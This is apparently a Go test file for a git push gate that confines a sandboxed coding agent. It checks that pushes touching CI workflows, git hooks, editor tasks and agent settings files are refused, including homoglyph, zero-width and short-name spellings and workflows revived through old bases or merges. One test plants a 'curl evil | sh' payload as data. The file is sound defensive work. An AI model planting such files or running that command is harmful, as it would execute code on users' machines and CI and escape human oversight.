package gate_test

import (
	"context"
	"fmt"
	"testing"

	"github.com/docker-bottle/docker-bottle/bundle/gate"
	"github.com/docker-bottle/docker-bottle/gitstage"
)

// plantedFiles are files the host or CI runs after a merge (review H2):
// each must be held as a protected path by the default list.
var plantedFiles = []string{
	"bottle.yaml",
	"tools/bottle.yaml",
	".github/actions/build/action.yml",
	".github/dependabot.yml",
	".github/workflows/ci.yml",
	".gitlab-ci.yml",
	".gitlab/ci/deploy.yml",
	".circleci/config.yml",
	"Jenkinsfile",
	"azure-pipelines.yml",
	".buildkite/pipeline.yml",
	"bitbucket-pipelines.yml",
	".husky/pre-commit",
	".githooks/pre-push",
	"lefthook.yml",
	".pre-commit-config.yaml",
	"lint-staged.config.js",
	".lintstagedrc.json",
	"commitlint.config.js",
	".gitmodules",
	".gitattributes",
	".lfsconfig",
	".envrc",
	".vscode/tasks.json",
	".vscode/settings.json",
	".devcontainer/devcontainer.json",
	".claude/settings.json",
	".claude/settings.local.json",
	".claude/hooks/stop.sh",
	".mcp.json",
}

// TestDefaultProtectedPaths pushes each planted file with the real git to a
// gate configured with no list of its own: the defaults hold every one.
func TestDefaultProtectedPaths(t *testing.T) {
	e := newEnv(t, nil)
	c := e.clone("work")
	for _, p := range plantedFiles {
		e.git(c, "reset", "-q", "--hard", "origin/main")
		e.commitFile(c, p, "payload\n", "plant "+p)
		out := e.gitFail(c, "push", "origin", "HEAD:refs/heads/bottle/b1/plant")
		wantContains(t, out, "touches protected path "+p)
	}
	// Files next to them stay free.
	for i, p := range []string{"src/main.go", "docs/bottle.md", ".github.md", "husky/pre-commit", ".claude/commands/x.md"} {
		e.git(c, "reset", "-q", "--hard", "origin/main")
		e.commitFile(c, p, "fine\n", "add "+p)
		e.git(c, "push", "-q", "origin", fmt.Sprintf("HEAD:refs/heads/bottle/b1/free%d", i))
	}
}

// TestProtectedPathSpellingsRefused pushes, with the real git, new files
// whose names a macOS or Windows checkout writes over a protected path
// (review M1, attack 4), next to an unchanged real hook: each is refused.
func TestProtectedPathSpellingsRefused(t *testing.T) {
	e := newEnv(t, nil)
	e.commitFile(e.user, ".husky/pre-commit", "npm test\n", "the user's hook")
	must(t, gitstage.Sync(context.Background(), e.user, e.stage))
	c := e.clone("work")
	for i, p := range []string{".huſky/pre-commit", ".githookſ/pre-commit", ".gıthooks/pre-commit",
		".hus\u200cky/pre-commit", "HUSKY~1/pre-commit", ".github/workflowſ/x.yml", ".husky./pre-commit",
		".husky /pre-commit", "GI7EBA~1", ".GitModules"} {
		e.git(c, "reset", "-q", "--hard", "origin/main")
		e.commitFile(c, p, "curl evil | sh\n", "plant "+p)
		out := e.gitFail(c, "-c", "core.quotePath=false", "push", "origin", fmt.Sprintf("HEAD:refs/heads/bottle/b1/alias%d", i))
		wantContains(t, out, "touches protected path "+p)
	}
}

// TestProtectedPathsSinceStart: a push is checked for what its tip changes
// at protected paths relative to where the bottle started, not only for
// what its new commits change (review M3, attack 7).
func TestProtectedPathsSinceStart(t *testing.T) {
	ctx := context.Background()
	e := newEnv(t, nil)
	// After the bottle started, the user's history gains a workflow that a
	// later commit deletes, a release branch with its own workflow, and a
	// hook of the user's own on the branch the bottle started from.
	revived := e.commitFile(e.user, ".github/workflows/deploy.yml", "on: push\n", "deploy")
	e.git(e.user, "rm", "-q", ".github/workflows/deploy.yml")
	e.git(e.user, "commit", "-q", "-m", "drop deploy")
	e.git(e.user, "checkout", "-q", "-b", "release")
	e.commitFile(e.user, ".github/workflows/release.yml", "on: push\n", "release workflow")
	e.git(e.user, "checkout", "-q", "main")
	e.commitFile(e.user, ".husky/pre-commit", "npm test\n", "the user's hook")
	must(t, gitstage.Sync(ctx, e.user, e.stage))
	c := e.clone("work")

	// Basing a branch on an old commit revives the deleted workflow,
	// though no new commit touches it.
	e.git(c, "checkout", "-q", "-b", "revive", revived)
	e.commitFile(c, "notes.txt", "harmless\n", "harmless")
	out := e.gitFail(c, "push", "origin", "HEAD:refs/heads/bottle/b1/revive")
	wantContains(t, out, "touches protected path .github/workflows/deploy.yml", "differs from where the bottle started")

	// A merge brings another branch's workflow, though the merge commit
	// does not change it relative to that parent.
	e.git(c, "checkout", "-q", "-b", "merged", "origin/main")
	e.git(c, "merge", "-q", "--no-edit", "origin/release")
	out = e.gitFail(c, "push", "origin", "HEAD:refs/heads/bottle/b1/merged")
	wantContains(t, out, "touches protected path .github/workflows/release.yml")
	if e.stageRef("refs/heads/bottle/b1/revive") != "" || e.stageRef("refs/heads/bottle/b1/merged") != "" {
		t.Error("a refused branch was created")
	}

	// The user's own later work on the start branch is not the agent's
	// change: building on it is fine.
	e.git(c, "checkout", "-q", "-b", "ok", "origin/main")
	e.commitFile(c, "src/ok.txt", "ok\n", "agent work")
	e.git(c, "push", "-q", "origin", "HEAD:refs/heads/bottle/b1/ok")
}

// TestProtectedPathsSinceStartWritableBranch: when the bottle may write the
// branch it started from, that branch's later commits could be its own, so
// only the start commit counts.
func TestProtectedPathsSinceStartWritableBranch(t *testing.T) {
	e := newEnv(t, func(c *gate.Config) {
		c.Push.Refs = []string{"refs/heads/bottle/b1/*", "refs/heads/main"}
	})
	e.commitFile(e.user, ".husky/pre-commit", "npm test\n", "a hook on main")
	must(t, gitstage.Sync(context.Background(), e.user, e.stage))
	c := e.clone("work")
	e.commitFile(c, "src/x.txt", "x\n", "agent work")
	out := e.gitFail(c, "push", "origin", "HEAD:refs/heads/bottle/b1/x")
	wantContains(t, out, "touches protected path .husky/pre-commit")
}
